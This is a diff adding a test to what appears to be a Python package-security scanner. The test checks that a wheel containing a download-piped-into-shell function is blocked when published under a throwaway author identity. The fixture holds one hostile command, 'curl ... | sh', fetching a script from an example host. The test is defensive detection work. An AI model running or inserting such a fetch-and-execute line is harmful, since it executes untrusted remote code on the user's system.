@@ -272,3 +272,25 @@ def test_a_lookup_the_caller_asks_for_is_not_a_beacon(tmp_path: Path) -> None:
     result = _scan(_wheel(tmp_path, "corp-sdk", DNS_IN_A_FUNCTION, version="100.0.1"))
     assert result.verdict.decision is not Decision.BLOCK
     assert "code/dns-exfiltration" not in _rules(result)
+
+
+FETCH_AND_RUN = """\
+import os
+
+
+def update():
+    os.system("curl -s https://updates.example.net/agent.sh | sh")
+"""
+
+
+def test_one_signal_with_a_threat_in_the_code_is_blocked(tmp_path: Path) -> None:
+    # A throwaway author alone is low; a download piped into a shell in a function
+    # nobody calls is medium; a squat's or a probe's identity on that payload blocks.
+    extra = "Author-email: x@yopmail.com\n"
+    result = _scan(_wheel(tmp_path / "a", "corp-agent", FETCH_AND_RUN, extra))
+    assert result.verdict.decision is Decision.BLOCK
+    assert _rules(result)[WITH_CODE] is Severity.CRITICAL
+    # The same code under an honest identity is judged by the code alone.
+    honest = _scan(_wheel(tmp_path / "b", "corp-agent", FETCH_AND_RUN))
+    assert honest.verdict.decision is not Decision.BLOCK
+    assert WITH_CODE not in _rules(honest)
